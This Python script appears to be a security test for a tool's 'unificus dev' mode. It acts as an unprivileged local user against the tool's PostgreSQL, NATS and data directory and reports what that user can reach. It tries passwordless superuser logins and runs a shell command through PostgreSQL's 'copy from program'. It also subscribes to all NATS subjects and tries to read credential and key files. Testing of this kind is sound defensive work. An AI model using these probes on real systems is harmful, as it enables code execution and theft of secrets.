"""Another user of the machine against `unificus dev`: its PostgreSQL, its NATS and its data directory.

Prints one JSON line with everything that user nobody could read. Run it as root, so that it can change to that user.
"""

import argparse
import json
import os
import pathlib
import pwd
import shutil
import signal
import socket
import subprocess
import tempfile
import time

from cluster import postgres_programs, wait_for


def as_nobody():
    nobody = pwd.getpwnam("nobody")
    return {"user": nobody.pw_uid, "group": nobody.pw_gid, "extra_groups": []} if os.getuid() == 0 else {}


def psql(port, user, database, statement):
    """Returns the output of a statement, or the error that refused it; sends no password."""
    url = f"postgresql://{user}@127.0.0.1:{port}/{database}"
    command = [postgres_programs() / "psql", "-XqAtw", url, "-c", statement]
    ran = subprocess.run(command, capture_output=True, text=True, cwd="/", env={"PATH": "/usr/bin:/bin"}, **as_nobody())
    return ran.stdout.strip() if ran.returncode == 0 else ran.stderr.strip().splitlines()[-1]


def subscribe_to_all(port):
    """Returns the response of NATS to a subscription to all subjects without credentials."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as nats:
        nats.sendall(b'CONNECT {"verbose":false}\r\nSUB > 1\r\nPING\r\n')
        response = b""
        while b"PONG" not in response and b"-ERR" not in response:
            part = nats.recv(65536)
            if not part:
                break
            response += part
    return "subscribed" if b"PONG" in response else response.split(b"\r\n")[-2].decode()


def readable(directory):
    """Returns the names of the files in the data directory that user nobody can read."""
    names = ["postgres.log", "nats.log", "nats.conf", "credentials.toml", "service.env", "demo.json", "master.key"]
    paths = [directory / name for name in names if (directory / name).exists()]
    results = [subprocess.run(["cat", path], capture_output=True, cwd="/", **as_nobody()).returncode == 0 for path in paths]
    return [path.name for path, is_readable in zip(paths, results) if is_readable]


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--binary", required=True)
    parser.add_argument("--keep", help="an existing data directory to take over; it is not removed")
    args = parser.parse_args()
    directory = pathlib.Path(args.keep or tempfile.mkdtemp(prefix="unificus-attack-"))
    directory.mkdir(exist_ok=True)
    directory.chmod(0o711)
    data, env_file = directory / "data", directory / "service.env"
    env_file.unlink(missing_ok=True)
    log = directory / "dev.log"
    with log.open("w") as output:
        command = [args.binary, "dev", "--port", "0", "--data-dir", data, "--env-file", env_file]
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=output, stderr=output)
    try:
        ended = lambda: env_file.exists() or process.poll() is not None
        wait_for(ended, 120, "unificus dev does not start")
        if process.poll() is not None:
            raise RuntimeError(log.read_text())
        env = dict(line.split("=", 1) for line in env_file.read_text().splitlines())
        ports = {name: int(env[f"UNIFICUS_{name}_URL"].split("@")[-1].split(":")[-1].split("/")[0]) for name in ("NATS", "DATABASE")}
        run = "create temp table t (line text); copy t from program 'id'; select line from t"
        superuser, own = "postgres", env["UNIFICUS_DATABASE_URL"].split("://")[1].split("@")[0].split(":")[0]
        print(json.dumps({
            "service_role": own,
            "code_as_postgres": psql(ports["DATABASE"], superuser, "postgres", run),
            "contacts_read": psql(ports["DATABASE"], own, "unificus", "select count(*) from contact"),
            "nats": subscribe_to_all(ports["NATS"]),
            "files_read": readable(data),
        }))
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=60)
        if not args.keep:
            shutil.rmtree(directory, ignore_errors=True)


if __name__ == "__main__":
    main()
